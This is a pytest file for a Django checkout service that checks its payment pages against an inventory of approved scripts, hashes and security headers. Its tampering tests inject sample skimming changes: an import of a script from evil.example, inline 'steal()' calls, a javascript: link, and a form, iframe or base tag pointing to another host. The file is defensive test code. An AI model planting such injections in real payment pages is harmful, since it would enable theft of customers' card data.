"""The pages around a payment run what was authorised and nothing else, and a look at them notices any difference."""

from __future__ import annotations

import re
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import pytest
from django.conf import settings as project
from django.core.management import CommandError, call_command
from django.test import Client

from checkout.models import CheckoutSession
from checkout.payment_pages import inventory as book
from checkout.payment_pages.check import check_payment_pages
from checkout.payment_pages.models import PageCheck
from checkout.payment_pages.reading import imports_of, read_page
from checkout.tests.conftest import evidence, open_session  # noqa: F401  (fixtures)
from portal.selectors import attention_for_staff

TEMPLATES = {"pay": "pay.html", "processing": "processing.html", "card_frame": "card_frame.html"}


class Served(httpx.BaseTransport):
    """The platform as it answers, or as somebody changed it: `alter` gets path and response of each answer."""

    def __init__(self, alter=lambda path, response: None):
        self.alter = alter

    def handle_request(self, request: httpx.Request) -> httpx.Response:
        parts = urlsplit(str(request.url))
        answer = Client(HTTP_HOST=parts.netloc).get(parts.path)
        content = b"".join(answer.streaming_content) if answer.streaming else answer.content
        response = httpx.Response(answer.status_code, headers=dict(answer.items()), content=content, request=request)
        return self.alter(parts.path, response) or response


def look(alter=lambda path, response: None) -> dict[str, PageCheck]:
    return {check.page: check for check in check_payment_pages(client=httpx.Client(transport=Served(alter)))}


def with_text(response: httpx.Response, old: str, new: str) -> httpx.Response:
    assert old in response.text
    headers = {name: value for name, value in response.headers.items() if name != "content-length"}
    return httpx.Response(response.status_code, headers=headers, text=response.text.replace(old, new, 1))


def without_a_hash(response: httpx.Response) -> httpx.Response:
    bound = re.search(r' integrity="[^"]+"', response.text)
    return with_text(response, bound.group(), "")


def on(page: str, change):
    """Change the answers of one page."""
    prefix = {"pay": "/pay/", "card_frame": "/card-frame/"}[page]
    return lambda path, response: change(response) if path.startswith(prefix) else None


@pytest.fixture
def session(acme, open_session) -> CheckoutSession:  # noqa: F811
    return open_session(acme)


# --- The inventory ---


def test_every_script_is_what_was_authorised_and_says_who_let_it_in_and_why():
    assert book.changed_scripts() == []
    for script in book.inventory().scripts:
        assert len(script.why.split()) > 4
        assert script.authorised_by
        assert script.reason
        assert script.pages


def test_whatever_a_script_imports_stands_in_the_inventory_of_its_pages():
    for script in book.inventory().scripts:
        for imported in imports_of(f"/static/{script.path}", book.content_of(script.path).decode()):
            found = next(other for other in book.inventory().scripts if f"/static/{other.path}" == imported)
            assert set(script.pages) <= set(found.pages), (script.path, imported)
            assert not found.is_entry


@pytest.mark.parametrize("page", TEMPLATES)
def test_the_templates_of_payment_pages_name_no_script_themselves(page):
    text = (Path(project.BASE_DIR) / "templates" / "checkout" / TEMPLATES[page]).read_text()

    assert "<script" not in text
    assert f'{{% payment_scripts "{page}" %}}' in text


@pytest.mark.django_db
def test_each_script_of_the_served_pages_is_bound_to_its_content(client, session):
    for path, page in ((f"/pay/{session.public_id}/", "pay"), (f"/card-frame/{session.public_id}/", "card_frame")):
        reading = read_page(f"http://testserver{path}", client.get(path).content.decode())
        bound = {urlsplit(url).path: value for url, value in {**reading.scripts, **reading.preloads}.items()}

        assert bound == {f"/static/{script.path}": script.sha384 for script in book.inventory().scripts_of(page)}
        assert reading.faults == []


def test_authorising_writes_who_and_why_and_only_of_what_changed(tmp_path, monkeypatch):
    file = tmp_path / "inventory.json"
    file.write_bytes(book.FILE.read_bytes())
    monkeypatch.setattr(book, "FILE", file)
    monkeypatch.setattr(book, "inventory", lambda: book.read(file))
    book.inventory.cache_clear = lambda: None
    real = book.content_of
    monkeypatch.setattr(book, "content_of", lambda path: real(path) + (b"//" if path == "js/checkout.js" else b""))
    assert [script.path for script in book.changed_scripts()] == ["js/checkout.js"]

    call_command("authorise_scripts", by="Ann Example", reason="Shows the split by line", verbosity=0)

    assert book.changed_scripts() == []
    written = {script.path: script for script in book.read(file).scripts}
    assert (written["js/checkout.js"].authorised_by, written["js/checkout.js"].reason) == (
        "Ann Example",
        "Shows the split by line",
    )
    assert written["js/ui.js"].authorised_by != "Ann Example"


@pytest.mark.parametrize("given", [{"by": " ", "reason": "a good reason"}, {"by": "Ann", "reason": "because"}])
def test_nothing_is_authorised_without_a_name_and_a_reason(given):
    before = book.FILE.read_bytes()

    with pytest.raises(CommandError):
        call_command("authorise_scripts", **given)
    with pytest.raises(CommandError, match="not in payment_pages"):
        call_command("authorise_scripts", "js/unknown.js", by="Ann", reason="a good reason")

    assert book.FILE.read_bytes() == before


# --- Looking at what is served ---


@pytest.mark.django_db
def test_pages_as_authorised_are_clean_and_the_look_is_kept(session):
    checks = look()

    assert {page: check.findings for page, check in checks.items()} == {"pay": [], "card_frame": []}
    assert len(checks["pay"].scripts) == len(book.inventory().scripts_of("pay"))
    assert "frame-ancestors 'none'" in checks["pay"].headers["Content-Security-Policy"]
    assert session.public_id not in str([check.scripts for check in checks.values()])
    assert attention_for_staff()["pages_differ"] == 0


@pytest.mark.django_db
def test_pages_that_a_merchant_may_frame_are_clean_too(session, acme):
    acme.embed_origins = ["https://shop.example"]
    acme.save()

    checks = look()

    assert [check.findings for check in checks.values()] == [[], []]
    for check in checks.values():
        assert "https://shop.example" in check.headers["Content-Security-Policy"]


CHANGES = {
    "a tampered script": (
        "card_frame",
        lambda path, r: with_text(r, "maxlength" if "maxlength" in r.text else "const", "/* evil */ const") if path.endswith("card_frame.js") else None,
        "card_frame.js was changed and not authorised",
    ),
    "a tampered import": (
        "pay", lambda path, r: with_text(r, "export", "fetch('/x');export") if path.endswith("checkout/card.js") else None,
        "checkout/card.js was changed and not authorised",
    ),
    "an import of another host": (
        "pay", lambda path, r: with_text(r, "import ", 'import "https://evil.example/skim.js";\nimport ') if path.endswith("js/checkout.js") else None,
        "imports https://evil.example/skim.js, which is not in the inventory",
    ),
    "an added script": (
        "pay", on("pay", lambda r: with_text(r, "</head>", '<script src="/static/js/portal.js"></script></head>')),
        "/static/js/portal.js is not in the inventory",
    ),
    "an inline script": ("card_frame", on("card_frame", lambda r: with_text(r, "</body>", "<script>steal()</script></body>")), "inline script: steal()"),
    "an event handler": ("pay", on("pay", lambda r: with_text(r, "<main", '<main onclick="steal()"')), "event handler onclick"),
    "a script address": ("pay", on("pay", lambda r: with_text(r, "</main>", '<a href="javascript:steal()">x</a></main>')), "by its href"),
    "a form that leads away": ("pay", on("pay", lambda r: with_text(r, "</main>", '<form action="https://evil.example/"></main>')), "another host"),
    "a frame of another host": ("card_frame", on("card_frame", lambda r: with_text(r, "</main>", '<iframe src="https://evil.example/"></main>')), "another host"),
    "a base": ("pay", on("pay", lambda r: with_text(r, "<head>", '<head><base href="https://evil.example/">')), "the page has a <base>"),
    "a script without its hash": ("pay", on("pay", without_a_hash), "not bound"),
    "a missing script": ("card_frame", on("card_frame", lambda r: with_text(r, "js/card_frame.js", "js/card_frame.js?2")), "is missing"),
    "a page that fails": ("pay", on("pay", lambda r: httpx.Response(503)), "the page answers 503"),
}  # fmt: skip


@pytest.mark.django_db
@pytest.mark.parametrize("name", CHANGES)
def test_a_change_is_found_logged_and_shown_to_staff_until_it_is_mended(session, caplog, name):
    page, alter, words = CHANGES[name]

    checks = look(alter)

    other = "card_frame" if page == "pay" else "pay"
    assert any(words in finding for finding in checks[page].findings), checks[page].findings
    assert checks[other].is_clean
    assert any(words in record.message and record.levelname == "ERROR" for record in caplog.records)
    assert attention_for_staff()["pages_differ"] == 1
    look()
    assert attention_for_staff()["pages_differ"] == 0
    assert PageCheck.objects.filter(is_clean=False).count() == 1


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("header", "which"), [(name, page) for page, names in book.inventory().headers.items() for name in names]
)
def test_a_missing_or_looser_header_is_found(session, header, which):
    if not dict(look()[which].headers)[header]:
        return  # one that this page must not have

    def drop(response):
        del response.headers[header]
        return response

    def loosen(response):
        response.headers[header] = "default-src *" if header == "Content-Security-Policy" else "unsafe"
        return response

    assert f"the header {header} is missing" in look(on(which, drop))[which].findings
    assert any(f"the header {header} is “" in finding for finding in look(on(which, loosen))[which].findings)


@pytest.mark.django_db
def test_without_an_open_session_nothing_is_said_to_be_clean():
    assert look() == {}
    assert not PageCheck.objects.exists()
    with pytest.raises(CommandError, match="No session is open"):
        call_command("check_payment_pages")


@pytest.mark.django_db
def test_a_platform_that_does_not_answer_is_a_finding(session):
    def fail(path, response):
        raise httpx.ConnectError("no")

    checks = look(fail)

    assert [check.findings for check in checks.values()] == [["the page could not be fetched: ConnectError"]] * 2
